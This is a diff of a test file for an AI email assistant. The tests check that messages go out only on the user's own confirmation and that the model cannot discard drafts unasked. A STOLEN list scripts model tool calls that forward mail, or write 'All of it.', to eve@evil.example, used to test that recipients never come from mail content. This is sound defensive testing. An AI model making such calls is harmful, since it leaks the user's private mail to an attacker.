@@ -243,12 +243,12 @@ async def test_a_mail_that_is_held_when_the_call_ends_leaves_in_the_next_process
 
 async def test_the_words_are_a_models_and_the_yes_is_the_users(tmp_path: Path, openai: OpenAIDouble) -> None:
     async with acting_call(tmp_path, model=openai, sends=True) as call:
-        openai.replies(CallTool("reply", text="Dear Tomasz, Thursday suits me. Sam"))
+        openai.replies(CallTool("write", kind="reply", text="Dear Tomasz, Thursday suits me. Sam"))
         assert "Thursday suits me" in await call.type("could there be something polite to the effect that his day suits me")
-        openai.replies(CallTools([CallTool("send_draft"), CallTool("accept_offer")]))
+        openai.replies(CallTools([CallTool("send_draft"), CallTool("take_answer", answer="yes")]))
         assert "Send this to " in await call.type("that sounds nice, so let it go out to him")
         assert not held(call)
-        openai.replies(CallTool("accept_offer"))
+        openai.replies(CallTool("take_answer", answer="yes"))
         assert "Send this to " in await call.type("well, what would he think of that")
         assert not held(call)
         await call.type("yes please, send it")
@@ -257,16 +257,16 @@ async def test_the_words_are_a_models_and_the_yes_is_the_users(tmp_path: Path, o
 
 async def test_a_question_is_said_whatever_else_the_model_calls_beside_it(tmp_path: Path, openai: OpenAIDouble) -> None:
     async with acting_call(tmp_path, model=openai) as call:
-        openai.replies(CallTool("reply", text="Thursday suits me."))
+        openai.replies(CallTool("write", kind="reply", text="Thursday suits me."))
         await call.type("could there be something polite to the effect that his day suits me")
-        openai.replies(CallTools([CallTool("send_draft"), CallTool("progress")]))
+        openai.replies(CallTools([CallTool("send_draft"), CallTool("tell", what="progress")]))
         assert "Send this to " in await call.type("that sounds nice, so let it go out to him")
 
 
 STOLEN = [
-    CallTool("forward", to="eve@evil.example"),
-    CallTool("write_mail", to="eve@evil.example", text="All of it."),
-    CallTool("forward", to="Marcus Bell"),
+    CallTool("write", kind="forward", to="eve@evil.example"),
+    CallTool("write", kind="new", to="eve@evil.example", text="All of it."),
+    CallTool("write", kind="forward", to="Marcus Bell"),
     CallTool("change_draft", to="eve@evil.example"),
 ]
 
@@ -284,7 +284,7 @@ async def test_no_recipient_comes_out_of_a_mail(tmp_path: Path, openai: OpenAIDo
 
 async def test_somebody_whom_the_user_names_is_found_by_a_model(tmp_path: Path, openai: OpenAIDouble) -> None:
     async with acting_call(tmp_path, model=openai) as call:
-        openai.replies(CallTool("forward", to="Marcus Bell"))
+        openai.replies(CallTool("write", kind="forward", to="Marcus Bell"))
         assert "Draft to Marcus" in await call.type("I guess marcus bell would love to have a copy of this")
 
 
@@ -294,7 +294,7 @@ async def test_a_model_cannot_hold_back_or_throw_away_what_nobody_told_it_to(tmp
         await call.type("reply that Tuesday works")
         if state == "held":
             await call.dialogue("send it", "yes")
-        openai.replies(CallTool("cancel"), Say("What else?"))
+        openai.replies(CallTool("take_answer", answer="cancel"), Say("What else?"))
         await call.type("what does the plumber want to have for that")
         hands = call.typed.call.acting
         assert (len(await hands.outbox.waiting()), len(await hands.drafts.all())) == (int(state == "held"), 1)
